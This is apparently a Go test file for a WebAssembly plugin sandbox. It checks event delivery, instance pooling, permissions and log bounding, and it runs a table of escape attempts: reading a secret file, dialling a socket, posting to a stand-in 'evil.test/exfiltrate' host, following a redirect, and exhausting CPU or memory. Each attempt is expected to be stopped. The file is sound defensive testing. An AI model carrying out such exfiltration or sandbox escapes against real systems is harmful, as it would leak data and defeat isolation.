package wasm_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/go-logr/logr"
	"github.com/go-logr/logr/funcr"

	"github.com/streamspace/streamspace/plugins/event"
	"github.com/streamspace/streamspace/plugins/wasm"
	"github.com/streamspace/streamspace/plugins/wasm/wasmtest"
)

func TestMain(m *testing.M) {
	code := m.Run()
	wasmtest.Cleanup()
	os.Exit(code)
}

// receiver is a real HTTP server that records each request's host and
// body.
type receiver struct {
	*httptest.Server
	mu   sync.Mutex
	got  []string // host + " " + body
	hook func(w http.ResponseWriter, r *http.Request) bool
}

func newReceiver(t *testing.T) *receiver {
	rc := &receiver{}
	rc.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		rc.mu.Lock()
		rc.got = append(rc.got, r.Host+" "+string(body))
		hook := rc.hook
		rc.mu.Unlock()
		if hook == nil || !hook(w, r) {
			w.WriteHeader(http.StatusNoContent)
		}
	}))
	t.Cleanup(rc.Close)
	return rc
}

func (rc *receiver) requests() []string {
	rc.mu.Lock()
	defer rc.mu.Unlock()
	return append([]string(nil), rc.got...)
}

func probe(t testing.TB) []byte { return wasmtest.Module(t, "testdata/probe") }

var eventTime = time.Date(2001, 2, 3, 4, 5, 6, 0, time.UTC)

// order is a session event whose data tells the probe what to do.
func order(id, do, arg string) event.Event {
	data, _ := json.Marshal(map[string]string{"do": do, "arg": arg})
	return event.Event{ID: id, Type: event.SessionStarted, Source: "https://portal.test", Subject: "alice-firefox", Time: eventTime, Data: data}
}

func newPlugin(t *testing.T, module []byte, host wasm.Host, limits wasm.Limits, perms ...string) event.Deliverer {
	t.Helper()
	d, err := wasm.New(context.Background(), module, event.Plugin{Name: "probe", Config: json.RawMessage(`{"greeting":"hi"}`), Permissions: perms}, host, limits)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = d.Close(context.Background()) })
	return d
}

func TestPlugin_deliver_postsToApprovedHost(t *testing.T) {
	rc := newReceiver(t)
	host := wasmtest.NewHost(rc.Server)
	p := newPlugin(t, probe(t), host, wasm.Limits{}, "events:session.*", "network:receiver.test")
	for i := range 3 {
		if err := p.Deliver(context.Background(), order(fmt.Sprint(i), "post", "http://receiver.test/hook")); err != nil {
			t.Fatal(err)
		}
	}
	if err := p.Deliver(context.Background(), order("c", "config", "http://receiver.test/config")); err != nil {
		t.Fatal(err)
	}
	want := []string{
		`receiver.test {"body":"","id":"0"}`, `receiver.test {"body":"","id":"1"}`, `receiver.test {"body":"","id":"2"}`,
		`receiver.test {"greeting":"hi"}`,
	}
	if got := rc.requests(); strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Fatalf("receiver got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

// Events run side by side in a pool of instances: while Instances events
// are held inside the plugin (each in an HTTP call the receiver holds),
// another one waits for a free instance, giving up when its context ends
// (a retry, not a stop); once they are released, the plugin delivers
// again.
func TestPlugin_pool_runsEventsSideBySide(t *testing.T) {
	rc := newReceiver(t)
	inside := make(chan string, 4)
	release := make(chan struct{})
	rc.hook = func(w http.ResponseWriter, r *http.Request) bool {
		if r.URL.Path == "/hold" {
			inside <- r.URL.Path
			<-release
		}
		return false
	}
	p := newPlugin(t, probe(t), wasmtest.NewHost(rc.Server), wasm.Limits{Instances: 2, PerEvent: 2 * time.Minute}, "events:session.*", "network:receiver.test")
	unblock := sync.OnceFunc(func() { close(release) })
	t.Cleanup(unblock) // first: the plugin and the receiver close once nothing is held
	held := make(chan error, 2)
	for i := range 2 {
		go func() {
			held <- p.Deliver(context.Background(), order(fmt.Sprint("held", i), "post", "http://receiver.test/hold"))
		}()
	}
	for range 2 {
		select {
		case <-inside: // both events are in the plugin at once: two instances
		case err := <-held:
			t.Fatalf("a held event returned before both were inside the plugin: %v", err)
		case <-time.After(time.Minute):
			t.Fatal("the two events did not run side by side in the plugin (one instance only?)")
		}
	}
	ctx, cancel := context.WithTimeout(context.Background(), 200*time.Millisecond)
	err := p.Deliver(ctx, order("third", "ok", ""))
	cancel()
	if err == nil || errors.Is(err, event.ErrPermanent) || !errors.Is(err, context.DeadlineExceeded) || !strings.Contains(err.Error(), "waiting for a free instance") {
		t.Fatalf("a third event while both instances are busy: got %v, want a retryable error waiting for a free instance", err)
	}
	unblock()
	for range 2 {
		if err := <-held; err != nil {
			t.Fatal(err)
		}
	}
	if err := p.Deliver(context.Background(), order("after", "ok", "")); err != nil {
		t.Fatal(err)
	}
}

// The wall clock a plugin reads is the event's time (plus the time spent
// on it), not the host's.
func TestPlugin_clock_isTheEventsTime(t *testing.T) {
	rc := newReceiver(t)
	p := newPlugin(t, probe(t), wasmtest.NewHost(rc.Server), wasm.Limits{}, "events:session.*", "network:receiver.test")
	if err := p.Deliver(context.Background(), order("t", "time", "http://receiver.test/")); err != nil {
		t.Fatal(err)
	}
	var got struct{ Now time.Time }
	if err := json.Unmarshal([]byte(strings.TrimPrefix(rc.requests()[0], "receiver.test ")), &got); err != nil {
		t.Fatal(err)
	}
	if got.Now.Before(eventTime) || got.Now.After(eventTime.Add(wasm.DefaultPerEvent)) {
		t.Fatalf("plugin read the time %s, want the event's %s (plus the time spent on it)", got.Now, eventTime)
	}
}

func TestPlugin_deliver_failures(t *testing.T) {
	p := newPlugin(t, probe(t), nil, wasm.Limits{}, "events:session.*")
	err := p.Deliver(context.Background(), order("r", "retry", ""))
	if err == nil || errors.Is(err, event.ErrPermanent) || !strings.Contains(err.Error(), "try again later") {
		t.Fatalf("a plugin's error: got %v, want a retryable error with its message", err)
	}
	err = p.Deliver(context.Background(), order("p", "permanent", ""))
	if !errors.Is(err, event.ErrPermanent) || !strings.Contains(err.Error(), "never") {
		t.Fatalf("a plugin's permanent error: got %v, want ErrPermanent with its message", err)
	}
	// The dispatcher filters events by permission; the runtime refuses
	// too, before the module sees personal data.
	user := order("u", "ok", "")
	user.Type = event.UserLogin
	if err := p.Deliver(context.Background(), user); !errors.Is(err, wasm.ErrPermission) || !strings.Contains(err.Error(), "events:user.*") {
		t.Fatalf("a user event without events:user.*: got %v, want ErrPermission naming it", err)
	}
}

// Each way out of the sandbox is stopped with its reason, the plugin
// delivers again afterwards (a fresh instance), and another plugin of the
// same process keeps delivering all along.
func TestPlugin_sandbox_stopsEscapes(t *testing.T) {
	rc := newReceiver(t)
	secret := filepath.Join(t.TempDir(), "secret")
	if err := os.WriteFile(secret, []byte("the-secret"), 0o600); err != nil {
		t.Fatal(err)
	}
	socket, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer socket.Close()
	accepted := make(chan struct{}, 1)
	go func() {
		if c, err := socket.Accept(); err == nil {
			accepted <- struct{}{}
			c.Close()
		}
	}()
	rc.hook = func(w http.ResponseWriter, r *http.Request) bool {
		if r.URL.Path == "/redirect" {
			http.Redirect(w, r, "http://other.test/stolen", http.StatusFound)
			return true
		}
		return false
	}

	host := wasmtest.NewHost(rc.Server)
	limits := wasm.Limits{Memory: 48 << 20, PerEvent: 5 * time.Second}
	victim := newPlugin(t, probe(t), host, limits, "events:session.*", "network:receiver.test")
	bystander := newPlugin(t, probe(t), host, wasm.Limits{}, "events:session.*", "network:bystander.test")

	// The bystander delivers throughout, in parallel with the victim.
	stopBystander := make(chan struct{})
	bystanderDone := make(chan error, 1)
	go func() {
		for i := 0; ; i++ {
			select {
			case <-stopBystander:
				bystanderDone <- nil
				return
			default:
			}
			if err := bystander.Deliver(context.Background(), order(fmt.Sprint("b", i), "post", "http://bystander.test/")); err != nil {
				bystanderDone <- err
				return
			}
			time.Sleep(20 * time.Millisecond)
		}
	}()

	for _, tc := range []struct {
		do, arg string
		reason  error // nil: the module's own error, returned for a retry
		says    string
	}{
		{"readfile", secret, wasm.ErrFilesystem, "opened a file"},
		{"dial", socket.Addr().String(), nil, "dial"},
		{"post", "http://evil.test/exfiltrate", wasm.ErrUnapprovedHost, "evil.test"},
		{"post", "http://receiver.test:8080/", wasm.ErrUnapprovedHost, "receiver.test:8080"},
		{"post", "http://receiver.test/redirect", nil, "redirect to http://other.test refused"},
		{"loop", "", wasm.ErrTimeLimit, "took longer than 5s"},
		{"sleep", "", wasm.ErrTimeLimit, "took longer than 5s"},
		{"alloc", "", wasm.ErrMemoryLimit, "more than 48 MiB"},
		{"panic", "boom", wasm.ErrCrashed, "probe panics: boom"},
	} {
		t.Run(tc.do+" "+tc.arg, func(t *testing.T) {
			err := victim.Deliver(context.Background(), order("v", tc.do, tc.arg))
			switch {
			case err == nil:
				t.Fatal("delivered; want a stop")
			case tc.reason != nil && (!errors.Is(err, tc.reason) || !errors.Is(err, event.ErrPermanent)):
				t.Fatalf("got %v, want %v wrapping ErrPermanent", err, tc.reason)
			case !strings.Contains(err.Error(), tc.says):
				t.Fatalf("got %q, want it to say %q", err, tc.says)
			case strings.Contains(err.Error(), "the-secret"):
				t.Fatalf("the secret leaked: %v", err)
			}
			t.Logf("%s: %v", tc.do, err)
			if err := victim.Deliver(context.Background(), order("after", "ok", "")); err != nil {
				t.Fatalf("the plugin does not deliver after the stop: %v", err)
			}
		})
	}
	close(stopBystander)
	if err := <-bystanderDone; err != nil {
		t.Fatalf("the bystander plugin failed while the victim was stopped: %v", err)
	}
	select {
	case <-accepted:
		t.Fatal("the module opened a socket to the listener")
	default:
	}
	var bystanderPosts int
	for _, r := range rc.requests() {
		host, _, _ := strings.Cut(r, " ")
		switch host {
		case "bystander.test":
			bystanderPosts++
		case "receiver.test":
		default:
			t.Errorf("a request reached the receiver for %s: %s", host, r)
		}
	}
	if bystanderPosts == 0 {
		t.Fatal("the bystander delivered nothing")
	}
}

func TestNew_refusesImportsBeyondPermissions(t *testing.T) {
	module := wasmtest.Module(t, "testdata/hibernator")
	for _, tc := range []struct {
		perms []string
		want  string
	}{
		{[]string{"events:session.*"}, "session_annotate, which needs the permission sessions:annotate; streamspace.session_hibernate, which needs the permission sessions:hibernate"},
		{[]string{"events:session.*", "sessions:annotate"}, "session_hibernate, which needs the permission sessions:hibernate"},
	} {
		_, err := wasm.New(context.Background(), module, event.Plugin{Name: "h", Permissions: tc.perms}, &wasmtest.Host{}, wasm.Limits{})
		if !errors.Is(err, wasm.ErrPermission) || !errors.Is(err, event.ErrPermanent) || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("permissions %v: got %v, want ErrPermission saying %q", tc.perms, err, tc.want)
		}
	}
	host := &wasmtest.Host{}
	p := newPlugin(t, module, host, wasm.Limits{}, "events:session.*", "sessions:annotate", "sessions:hibernate")
	if err := p.Deliver(context.Background(), order("7", "", "")); err != nil {
		t.Fatal(err)
	}
	hibernated, annotations := host.Calls()
	if strings.Join(hibernated, ",") != "alice-firefox" || strings.Join(annotations, ",") != "alice-firefox/example.com/seen=7" {
		t.Fatalf("host calls: hibernated %v, annotations %v", hibernated, annotations)
	}
	host.Err = errors.New("session alice-firefox not found")
	if err := p.Deliver(context.Background(), order("8", "", "")); err == nil || errors.Is(err, event.ErrPermanent) || !strings.Contains(err.Error(), "not found") {
		t.Fatalf("a host error: got %v, want it returned to the module and its retryable failure", err)
	}
}

func TestNew_refusesWhatIsNotAPlugin(t *testing.T) {
	for name, module := range map[string][]byte{
		"not wasm":     []byte("#!/bin/sh\necho hi\n"),
		"empty module": []byte("\x00asm\x01\x00\x00\x00"),
	} {
		_, err := wasm.New(context.Background(), module, event.Plugin{Name: "x"}, nil, wasm.Limits{})
		if !errors.Is(err, wasm.ErrNotPlugin) || !errors.Is(err, event.ErrPermanent) {
			t.Errorf("%s: got %v, want ErrNotPlugin", name, err)
		}
	}
}

// A module's output reaches the log, bounded per event.
func TestPlugin_output_isBounded(t *testing.T) {
	var mu sync.Mutex
	var lines, dropped int
	log := funcr.New(func(prefix, args string) {
		mu.Lock()
		defer mu.Unlock()
		switch {
		case strings.Contains(args, `"Plugin output"`):
			lines++
		case strings.Contains(args, `"Plugin output dropped"`):
			dropped++
		}
	}, funcr.Options{})
	ctx := logr.NewContext(context.Background(), log)
	d, err := wasm.New(ctx, probe(t), event.Plugin{Name: "chatty", Permissions: []string{"events:session.*"}}, nil, wasm.Limits{})
	if err != nil {
		t.Fatal(err)
	}
	defer d.Close(ctx)
	for _, o := range []string{"print", "ok"} { // the next event flushes the count
		if err := d.Deliver(ctx, order(o, o, "")); err != nil {
			t.Fatal(err)
		}
	}
	mu.Lock()
	defer mu.Unlock()
	const line = len("a line of output from the probe\n")
	if max := 16<<10/line + 1; lines > max || lines == 0 || dropped != 1 {
		t.Fatalf("logged %d lines (want 1..%d) and %d drop notes (want 1) of 1000 lines printed", lines, max, dropped)
	}
}

// BenchmarkDeliver compares ways to run a plugin: one instance reused for
// every event, the pool of instances (what the runtime does) fed from
// several goroutines, and a plugin loaded per
// event (New: the module decoded, its compiled code from the cache, a
// fresh instance started; then Deliver and Close), on an event the module
// handles without a host call.
func BenchmarkDeliver(b *testing.B) {
	module := probe(b)
	ctx := context.Background()
	plugin := event.Plugin{Name: "bench", Permissions: []string{"events:session.*"}}
	warm, err := wasm.New(ctx, module, plugin, nil, wasm.Limits{}) // compiles into the cache
	if err != nil {
		b.Fatal(err)
	}
	_ = warm.Close(ctx)
	b.Run("reused", func(b *testing.B) {
		d, err := wasm.New(ctx, module, plugin, nil, wasm.Limits{})
		if err != nil {
			b.Fatal(err)
		}
		defer d.Close(ctx)
		if err := d.Deliver(ctx, order("warm", "ok", "")); err != nil { // instantiates
			b.Fatal(err)
		}
		b.ResetTimer()
		for i := range b.N {
			if err := d.Deliver(ctx, order(fmt.Sprint(i), "ok", "")); err != nil {
				b.Fatal(err)
			}
		}
		b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "events/s")
	})
	for _, instances := range []int{1, wasm.DefaultInstances()} {
		// events of different sessions side by side, as the dispatcher's lanes send them
		b.Run(fmt.Sprintf("pool-of-%d", instances), func(b *testing.B) {
			d, err := wasm.New(ctx, module, plugin, nil, wasm.Limits{Instances: instances})
			if err != nil {
				b.Fatal(err)
			}
			defer d.Close(ctx)
			var warm sync.WaitGroup // starts the instances before the clock runs
			for range 2 * instances {
				warm.Go(func() { _ = d.Deliver(ctx, order("warm", "ok", "")) })
			}
			warm.Wait()
			var n atomic.Int64
			b.ResetTimer()
			b.SetParallelism(4)
			b.RunParallel(func(pb *testing.PB) {
				for pb.Next() {
					if err := d.Deliver(ctx, order(fmt.Sprint(n.Add(1)), "ok", "")); err != nil {
						b.Error(err)
						return
					}
				}
			})
			b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "events/s")
		})
	}
	b.Run("new-per-event", func(b *testing.B) {
		for i := range b.N {
			d, err := wasm.New(ctx, module, plugin, nil, wasm.Limits{})
			if err != nil {
				b.Fatal(err)
			}
			if err := d.Deliver(ctx, order(fmt.Sprint(i), "ok", "")); err != nil {
				b.Fatal(err)
			}
			_ = d.Close(ctx)
		}
		b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "events/s")
	})
}
